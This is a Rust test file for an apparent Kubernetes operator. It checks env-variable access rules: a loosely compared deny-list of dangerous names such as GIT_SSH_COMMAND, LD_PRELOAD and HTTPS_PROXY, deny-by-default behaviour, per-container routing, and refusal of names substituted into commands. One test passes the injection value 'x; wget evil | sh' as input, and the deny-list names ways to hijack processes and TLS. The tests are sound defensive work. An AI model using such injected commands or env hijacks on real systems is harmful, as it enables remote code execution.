//! R41: what env a token may send, compared loosely: the grown deny-list,
//! deny-by-default with spec.devices, env the owner allows for one container only, and names
//! the base passes to a command line.

use serde_json::json;

use super::access::{base_with_secrets, refusal};
use super::*;
use crate::crd::DeviceAccess;
use crate::variant::access::{
    device_may_add, env_targets, route_device_env, validate_device_access,
};
use crate::variant::{base_env::reaching, families::denied};

/// [`refusal`] for a Mutation with spec.devices (R41: env is deny-by-default).
fn refusal_with_devices(access: Option<&DeviceAccess>, env: &[(&str, &str)]) -> String {
    device_may_add(
        &base_with_secrets(),
        access,
        &variant("board-7", env, 1),
        1,
        true,
    )
    .err()
    .unwrap_or_default()
}

// R41: the names of the hostile display are refused without spec.devices,
// compared without case and with '-'/'.' as '_'; a valueFrom name cannot be shadowed by any
// spelling of it
#[test]
fn the_deny_list_is_compared_loosely_and_grown() {
    for name in [
        "CATALINA_OPTS",
        "GIT_SSH_COMMAND",
        "git-config-global",
        "HTTPS_PROXY",
        "https_proxy",
        "LOCALDOMAIN",
        "RES_OPTIONS",
        "SSL_CERT_FILE",
        "NODE_TLS_REJECT_UNAUTHORIZED",
        "ld.preload",
        "MAVEN_OPTS",
    ] {
        assert!(denied(name).is_some(), "{name} should be refused");
        assert!(refusal(None, &[(name, "x")], 1).contains(name), "{name}");
    }
    for shadow in ["db_password", "Db-Password", "DB.PASSWORD", "pod-name"] {
        let said = refusal(None, &[(shadow, "x")], 1);
        assert!(said.contains("valueFrom"), "{shadow}: {said}");
        let owner_allows = DeviceAccess {
            env: Some(vec![shadow.to_owned()]),
            ..DeviceAccess::default()
        };
        assert!(refusal(Some(&owner_allows), &[(shadow, "x")], 1).contains("valueFrom"));
    }
}

// R41: with spec.devices env is deny-by-default; the owner's list allows, compared loosely
#[test]
fn with_devices_env_is_deny_by_default() {
    let said = refusal_with_devices(None, &[("FEATURE_X", "on")]);
    assert!(
        said.contains("FEATURE_X") && said.contains("spec.devices"),
        "{said}"
    );
    assert_eq!(refusal_with_devices(None, &[]), "");
    let listed = DeviceAccess {
        env: Some(vec!["SNAP_RES".into()]),
        ..DeviceAccess::default()
    };
    assert_eq!(
        refusal_with_devices(Some(&listed), &[("SNAP_RES", "960x540")]),
        ""
    );
    assert_eq!(
        refusal_with_devices(Some(&listed), &[("snap-res", "960x540")]),
        ""
    );
    assert!(refusal_with_devices(Some(&listed), &[("FEATURE_X", "on")]).contains("FEATURE_X"));
}

// R41: the owner may name the container a device's env goes into; such a
// value is stored in that container's own env and reaches no other container
#[test]
fn env_the_owner_allows_for_one_container_reaches_only_that_container() {
    let access = DeviceAccess {
        env: Some(vec![
            "nginx/SNAP_RES".into(),
            "SCREEN".into(),
            "sidecar/snap-res".into(),
        ]),
        ..DeviceAccess::default()
    };
    let names = access.env.clone().unwrap_or_default();
    assert_eq!(env_targets(&names, "SCREEN"), Some(vec![]));
    assert_eq!(
        env_targets(&names, "SNAP_RES"),
        Some(vec!["nginx", "sidecar"])
    );
    assert_eq!(env_targets(&names, "OTHER"), None);
    let only_nginx = DeviceAccess {
        env: Some(vec!["nginx/SNAP_RES".into(), "SCREEN".into()]),
        ..DeviceAccess::default()
    };
    let sent = variant(
        "board-7",
        &[("SNAP_RES", "960x540"), ("SCREEN", "portrait")],
        1,
    );
    assert!(device_may_add(&base_json(), Some(&only_nginx), &sent, 1, true).is_ok());
    let routed = route_device_env(Some(&only_nginx), &sent);
    assert_eq!(
        routed.env.to_map(),
        [("SCREEN".to_owned(), "portrait".to_owned())].into()
    );
    assert_eq!(routed.containers.len(), 1);
    assert_eq!(routed.containers[0].name, "nginx");
    assert_eq!(routed.containers[0].env.get("SNAP_RES"), Some("960x540"));
    assert_eq!(routed.containers[0].image, None);
    // built: SNAP_RES in nginx only, SCREEN in both
    let base = Base::parse(&base_json()).unwrap_or_else(|e| panic!("{e}"));
    let built = build(&base, &owner(), &routed);
    let containers = built["spec"]["template"]["spec"]["containers"]
        .as_array()
        .cloned()
        .unwrap_or_default();
    let env_of = |i: usize| -> Vec<String> {
        containers[i]["env"]
            .as_array()
            .into_iter()
            .flatten()
            .filter_map(|e| e["name"].as_str().map(str::to_owned))
            .collect()
    };
    assert!(
        env_of(0).contains(&"SNAP_RES".to_owned()),
        "{:?}",
        env_of(0)
    );
    assert!(
        !env_of(1).contains(&"SNAP_RES".to_owned()),
        "{:?}",
        env_of(1)
    );
    assert!(env_of(0).contains(&"SCREEN".to_owned()) && env_of(1).contains(&"SCREEN".to_owned()));
    // without deviceAccess.env nothing moves
    assert_eq!(route_device_env(None, &sent), sent);
    // the owner's entries are checked
    let bad = DeviceAccess {
        env: Some(vec!["Bad_Container/NAME".into(), "web/1NAME".into()]),
        ..DeviceAccess::default()
    };
    let said = validate_device_access(&bad).err().unwrap_or_default();
    assert!(said.contains("Bad_Container"), "{said}");
    assert!(said.contains("1NAME"), "{said}");
    assert!(validate_device_access(&only_nginx).is_ok());
}

// R41: a name the base passes to a command line as $(NAME) is refused to a
// token unless the owner lists it, whatever else allows it
#[test]
fn names_on_a_command_line_are_the_owners_to_allow() {
    let mut b = base_json();
    b["spec"]["template"]["spec"]["containers"][0]["command"] = json!([
        "sh",
        "-c",
        "exec snap --title $(TITLE) --size $$(SIZE) $(UNCLOSED"
    ]);
    b["spec"]["template"]["spec"]["initContainers"][0]["args"] = json!(["--mode=$(MODE)"]);
    let mut names: Vec<(String, String)> = reaching(&b)
        .into_iter()
        .map(|r| (r.name, r.container))
        .collect();
    names.sort();
    assert_eq!(
        names,
        [
            ("MODE".to_owned(), "init".to_owned()),
            ("TITLE".to_owned(), "nginx".to_owned())
        ]
    );
    let add = |access: Option<&DeviceAccess>, name: &str, devices_on| {
        device_may_add(
            &b,
            access,
            &variant("board-7", &[(name, "x; wget evil | sh")], 1),
            1,
            devices_on,
        )
    };
    let said = add(None, "TITLE", false).err().unwrap_or_default();
    assert!(
        said.contains("$(TITLE)") && said.contains("\"nginx\""),
        "{said}"
    );
    assert!(add(None, "MODE", false).is_err());
    // escaped, unclosed and merely similar names are not references
    assert!(add(None, "SIZE", false).is_ok());
    assert!(add(None, "title", false).is_ok());
    // the owner's list allows it, with or without spec.devices
    let listed = DeviceAccess {
        env: Some(vec!["TITLE".into()]),
        ..DeviceAccess::default()
    };
    assert!(add(Some(&listed), "TITLE", false).is_ok());
    assert!(add(Some(&listed), "TITLE", true).is_ok());
    assert!(reaching(&base_json()).is_empty());
}
